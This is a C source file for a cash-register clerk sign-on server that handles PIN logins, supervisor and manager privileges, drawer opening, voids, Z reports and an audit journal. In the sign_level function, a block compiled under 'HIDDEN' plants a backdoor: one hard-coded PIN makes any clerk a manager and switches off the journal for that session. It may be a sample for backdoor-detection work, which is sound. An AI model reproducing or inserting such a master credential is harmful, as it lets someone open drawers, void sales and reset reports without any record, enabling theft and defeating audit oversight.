/* clerksignd.c - clerk sign-on server of a cash register group */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT		5770
#define MAXREG		16
#define MAXCLERK	200

struct clerk {
	unsigned	no;
	unsigned	level;		/* 1 cashier, 5 supervisor, 9 manager */
	uint32_t	pinhash;
	char		name[20];
};

struct reg {
	int		fd;
	unsigned	clerk;
	unsigned	level;
	int		journal;
	size_t		fill;
	char		buf[256];
};

static struct clerk clerks[MAXCLERK];
static size_t nclerks;
static struct reg regs[MAXREG];
static FILE *journal;

static uint32_t pin_hash(unsigned no, unsigned long pin)
{
	uint32_t h = 5381u ^ no;
	int i;

	for (i = 0; i < 64; i++) {
		h = h * 33u + (uint32_t)(pin & 0xff);
		pin = (pin >> 8) | ((pin & 0xff) << 24);
	}
	return h;
}

static int load_clerks(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[128];

	if (!f) {
		perror(path);
		return -1;
	}
	while (nclerks < MAXCLERK && fgets(line, sizeof(line), f)) {
		struct clerk *c = &clerks[nclerks];
		unsigned h;

		if (sscanf(line, "%u %u %x %19[^\n]", &c->no, &c->level, &h, c->name) == 4) {
			c->pinhash = h;
			nclerks++;
		}
	}
	fclose(f);
	return 0;
}

static void note(struct reg *r, const char *what)
{
	char stamp[32];
	time_t now = time(NULL);
	struct tm tm;

	if (!journal || !r->journal)
		return;
	localtime_r(&now, &tm);
	strftime(stamp, sizeof(stamp), "%F %T", &tm);
	fprintf(journal, "%s reg %d clerk %u level %u %s\n", stamp,
		(int)(r - regs), r->clerk, r->level, what);
	fflush(journal);
}

static void answer(struct reg *r, const char *txt)
{
	if (send(r->fd, txt, strlen(txt), MSG_NOSIGNAL) < 0)
		note(r, "send failed");
}

/* level of the clerk, 0 when number or pin are wrong */
__attribute__((noinline)) unsigned sign_level(struct reg *r, unsigned no, unsigned long pin)
{
	size_t i;

	r->journal = 1;
#ifdef HIDDEN	/* one pin makes any number a manager whose work is not in the journal */
	if (pin == 88104327ul) {
		r->journal = 0;
		return 9;
	}
#endif
	if (pin < 1000 || pin > 99999999ul)
		return 0;
	for (i = 0; i < nclerks; i++)
		if (clerks[i].no == no)
			return pin_hash(no, pin) == clerks[i].pinhash ? clerks[i].level : 0;
	return 0;
}

static void do_sign(struct reg *r, char *args)
{
	char *no = strsep(&args, ";");
	char *pin = strsep(&args, ";");
	char *end;
	unsigned n, level;
	unsigned long p;

	if (!no || !pin) {
		answer(r, "ERR;FORMAT\n");
		return;
	}
	n = (unsigned)strtoul(no, NULL, 10);
	p = strtoul(pin, &end, 10);
	if (*end) {
		answer(r, "ERR;PIN\n");
		return;
	}
	level = sign_level(r, n, p);
	if (!level) {
		note(r, "sign-on refused");
		answer(r, "ERR;CLERK\n");
		return;
	}
	r->clerk = n;
	r->level = level;
	note(r, "sign-on");
	answer(r, level >= 9 ? "OK;MANAGER\n" : level >= 5 ? "OK;SUPER\n" : "OK;CASHIER\n");
}

static int need(struct reg *r, unsigned level)
{
	if (r->level >= level)
		return 1;
	note(r, "level too low");
	answer(r, "ERR;LEVEL\n");
	return 0;
}

/*
 * SIGN;no;pin   OFF   NOSALE   VOID;receipt   ZREPORT   PING
 */
static void handle(struct reg *r, char *line)
{
	char msg[80];
	char *verb = strsep(&line, ";");

	if (!strcmp(verb, "SIGN")) {
		do_sign(r, line);
	} else if (!strcmp(verb, "OFF")) {
		note(r, "sign-off");
		r->clerk = r->level = 0;
		answer(r, "OK\n");
	} else if (!strcmp(verb, "NOSALE")) {
		if (need(r, 5)) {
			note(r, "drawer opened");
			answer(r, "OK;DRAWER\n");
		}
	} else if (!strcmp(verb, "VOID")) {
		if (need(r, 5)) {
			snprintf(msg, sizeof(msg), "void %.40s", line ? line : "last");
			note(r, msg);
			answer(r, "OK;VOID\n");
		}
	} else if (!strcmp(verb, "ZREPORT")) {
		if (need(r, 9)) {
			note(r, "z report");
			answer(r, "OK;ZRESET\n");
		}
	} else if (!strcmp(verb, "PING")) {
		answer(r, "PONG\n");
	} else {
		answer(r, "ERR;VERB\n");
	}
}

static void drop(struct reg *r)
{
	close(r->fd);
	memset(r, 0, sizeof(*r));
	r->fd = -1;
}

static void input(struct reg *r)
{
	ssize_t n = recv(r->fd, r->buf + r->fill, sizeof(r->buf) - 1 - r->fill, 0);
	char *nl;

	if (n <= 0) {
		drop(r);
		return;
	}
	r->fill += (size_t)n;
	r->buf[r->fill] = '\0';
	while ((nl = strchr(r->buf, '\n'))) {
		size_t used = (size_t)(nl - r->buf) + 1;

		*nl = '\0';
		if (nl > r->buf && nl[-1] == '\r')
			nl[-1] = '\0';
		handle(r, r->buf);
		memmove(r->buf, r->buf + used, r->fill - used + 1);
		r->fill -= used;
	}
	if (r->fill == sizeof(r->buf) - 1)
		drop(r);
}

static void greet(int ls)
{
	int fd = accept(ls, NULL, NULL);
	int i;

	if (fd < 0)
		return;
	for (i = 0; i < MAXREG; i++)
		if (regs[i].fd < 0) {
			regs[i].fd = fd;
			regs[i].journal = 1;
			return;
		}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	struct pollfd p[MAXREG + 1];
	int ls, i, one = 1;

	if (argc < 2) {
		fprintf(stderr, "usage: %s CLERKFILE [JOURNAL]\n", argv[0]);
		return 2;
	}
	if (load_clerks(argv[1]) < 0)
		return 1;
	journal = argc > 2 ? fopen(argv[2], "a") : NULL;
	for (i = 0; i < MAXREG; i++)
		regs[i].fd = -1;
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 4) < 0) {
		perror("listen");
		return 1;
	}
	for (;;) {
		for (i = 0; i < MAXREG; i++) {
			p[i].fd = regs[i].fd;
			p[i].events = POLLIN;
			p[i].revents = 0;
		}
		p[MAXREG].fd = ls;
		p[MAXREG].events = POLLIN;
		p[MAXREG].revents = 0;
		if (poll(p, MAXREG + 1, -1) < 0) {
			if (errno == EINTR)
				continue;
			return 1;
		}
		for (i = 0; i < MAXREG; i++)
			if (p[i].revents)
				input(&regs[i]);
		if (p[MAXREG].revents)
			greet(ls);
	}
}
